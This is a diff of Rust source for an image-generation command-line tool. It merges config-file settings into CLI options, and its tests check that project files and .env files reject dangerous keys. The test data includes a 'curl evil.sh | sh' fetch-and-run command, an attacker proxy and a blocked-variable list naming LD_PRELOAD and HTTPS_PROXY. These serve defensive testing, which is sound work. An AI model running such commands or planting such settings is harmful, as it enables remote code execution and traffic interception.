+            cli.name_template = config.name_template.or(cli.name_template.take());
+        }
+        if unset("pipe_to") {
+            cli.pipe_to = config.pipe_to.or(cli.pipe_to.take());
+        }
+        if unset("size") {
+            cli.size = config.size.or(cli.size.take());
+        }
+        if unset("quality") {
+            cli.quality = config.quality.or(cli.quality.take());
+        }
+        if unset("style") {
+            cli.style = config.style.or(cli.style.take());
+        }
+        if unset("cfg_scale") {
+            cli.cfg_scale = config.cfg_scale.or(cli.cfg_scale);
+        }
+        if unset("negative_prompt") {
+            cli.negative_prompt = config.negative_prompt.or(cli.negative_prompt.take());
+        }
+        if unset("height") {
+            cli.height = config.height.or(cli.height);
+        }
+        if unset("signing_key") {
+            cli.signing_key = config.signing_key.or(cli.signing_key.take());
+        }
+        if unset("cache_ttl") {
+            cli.cache_ttl = config.cache_ttl.or(cli.cache_ttl.take());
+        }
+        if unset("redis_url") {
+            cli.redis_url = config.redis_url.or(cli.redis_url.take());
+        }
+        if unset("prompt_log") {
+            cli.prompt_log = config
+                .prompt_log
+                .map(|p| expand_home(&p))
+                .or(cli.prompt_log.take());
+        }
+        if unset("log_file") {
+            cli.log_file = config
+                .log_file
+                .map(|p| expand_home(&p))
+                .or(cli.log_file.take());
+        }
+
+        if let Some(count) = config.count.filter(|_| unset("count")) {
+            cli.count = count;
+        }
+        if let Some(jobs) = config.jobs.filter(|_| unset("jobs")) {
+            cli.jobs = jobs;
+        }
+        if unset("rpm") {
+            cli.rpm = config.rpm.or(cli.rpm);
+        }
+        if let Some(max_failures) = config.max_failures.filter(|_| unset("max_failures")) {
+            cli.max_failures = max_failures;
+        }
+        if let Some(cooldown) = config.cooldown.filter(|_| unset("cooldown")) {
+            cli.cooldown = cooldown;
+        }
+        if let Some(timeout) = config.timeout.filter(|_| unset("timeout")) {
+            cli.timeout = timeout;
+        }
+        if let Some(connect_timeout) = config.connect_timeout.filter(|_| unset("connect_timeout")) {
+            cli.connect_timeout = connect_timeout;
+        }
+        if let Some(max_response_size) = config
+            .max_response_size
+            .filter(|_| unset("max_response_size"))
+        {
+            cli.max_response_size = max_response_size;
+        }
+        if unset("proxy") {
+            cli.proxy = config.proxy.or(cli.proxy.take());
+        }
+        if let Some(headers) = config.headers.filter(|_| unset("header")) {
+            cli.header = headers;
+        }
+        if unset("ca_cert") {
+            cli.ca_cert = config
+                .ca_cert
+                .map(|p| expand_home(&p))
+                .or(cli.ca_cert.take());
+        }
+        if let Some(retries) = config.retries.filter(|_| unset("retries")) {
+            cli.retries = retries;
+        }
+        if let Some(retry_delay) = config.retry_delay.filter(|_| unset("retry_delay")) {
+            cli.retry_delay = retry_delay;
+        }
+        if let Some(width) = config.width.filter(|_| unset("width")) {
+            cli.width = Some(width);
+        }
+        if let Some(no_preview) = config.no_preview.filter(|_| unset("no_preview")) {
+            cli.no_preview = no_preview;
+        }
+        if let Some(low_bandwidth) = config.low_bandwidth.filter(|_| unset("low_bandwidth")) {
+            cli.low_bandwidth = low_bandwidth;
+        }
+        if let Some(no_color) = config.no_color.filter(|_| unset("no_color")) {
+            cli.no_color = no_color;
+        }
+        if let Some(a11y) = config.a11y.filter(|_| unset("a11y")) {
+            cli.a11y = a11y;
+        }
+        if let Some(manifest) = config.manifest.filter(|_| unset("manifest")) {
+            cli.manifest = manifest;
+        }
+        if let Some(sign) = config.sign_manifest.filter(|_| unset("sign_manifest")) {
+            cli.sign_manifest = sign;
+        }
+        if let Some(verbose) = config.verbose.filter(|_| unset("verbose")) {
+            cli.verbose = verbose;
+        }
+        // A -v on the command line outranks a configured quiet
+        if let Some(quiet) = config.quiet.filter(|_| unset("quiet") && unset("verbose")) {
+            cli.quiet = quiet;
+        }
+        if let Some(no_history) = config.no_history.filter(|_| unset("no_history")) {
+            cli.no_history = no_history;
+        }
+        if let Some(no_latest) = config.no_latest.filter(|_| unset("no_latest")) {
+            cli.no_latest = no_latest;
+        }
+        if let Some(show_cost) = config.show_cost.filter(|_| unset("show_cost")) {
+            cli.show_cost = show_cost;
+        }
+        if let Some(auto_suffix) = config.auto_suffix.filter(|_| unset("auto_suffix")) {
+            cli.auto_suffix = auto_suffix;
+        }
+        if let Some(numbered) = config.numbered.filter(|_| unset("numbered")) {
+            cli.numbered = numbered;
+        }
+        cli.pricing = config.pricing;
+        cli.budget = config.budget;
+
+        Ok(())
+    }
+}
+
+/// Expand a leading `~/` to the home directory
+fn expand_home(path: &Path) -> PathBuf {
+    match (path.strip_prefix("~"), dirs::home_dir()) {
+        (Ok(rest), Some(home)) => home.join(rest),
+        _ => path.to_path_buf(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn project(text: &str) -> Result<()> {
+        check_project(Path::new(PROJECT_FILE), &toml::from_str(text).unwrap())
+    }
+
+    #[test]
+    fn project_file_accepts_output_and_style_settings() {
+        project(
+            r#"
+            output = "assets/"
+            style = "flat vector"
+            default-profile = "web"
+
+            [profile.web]
+            size = "1024x1024"
+
+            [[rule]]
+            path = "~/work/**"
+            [rule.set]
+            model = "gpt-image-1"
+            "#,
+        )
+        .unwrap();
+    }
+
+    #[test]
+    fn project_file_rejects_commands_secrets_and_network_settings() {
+        for (text, key) in [
+            (
+                r#"api-key-command = "curl evil.sh | sh""#,
+                "api-key-command",
+            ),
+            (r#"pipe-to = "sh""#, "pipe-to"),
+            (r#"proxy = "http://attacker:8080""#, "proxy"),
+            (r#"headers = ["X-Leak: 1"]"#, "headers"),
+            ("[profile.x]\nca-cert = \"ca.pem\"", "profile.x.ca-cert"),
+            (
+                "[[rule]]\npath = \"**\"\n[rule.set]\nlog-file = \"l\"",
+                "rule.set.log-file",
+            ),
+        ] {
+            let err = project(text).unwrap_err().to_string();
+            assert!(err.contains(&format!("cannot set {};", key)), "{}", err);
+            assert!(err.contains("user config"), "{}", err);
+        }
+    }
+
+    #[test]
+    fn dotenv_only_sets_provider_keys_and_harmless_options() {
+        for name in [
+            "GEMINI_API_KEY",
+            "AWS_REGION",
+            "IMAGO_OUTPUT_DIR",
+            "IMAGO_STYLE",
+            "IMAGO_NO_PREVIEW",
+        ] {
+            assert!(dotenv_allowed(name), "{}", name);
+        }
+        for name in [
+            "IMAGO_PIPE_TO",
+            "IMAGO_PROXY",
+            "IMAGO_INSECURE",
+            "IMAGO_CONFIG",
+            "IMAGO_API_KEY_FILE",
+            "IMAGO_DUMP_HTTP",
+            "IMAGO_RECORD",
+            "IMAGO_OUTPUT",
+            "AZURE_OPENAI_ENDPOINT",
+            "HTTPS_PROXY",
+            "LD_PRELOAD",
+        ] {
+            assert!(!dotenv_allowed(name), "{}", name);
+        }
+    }
+}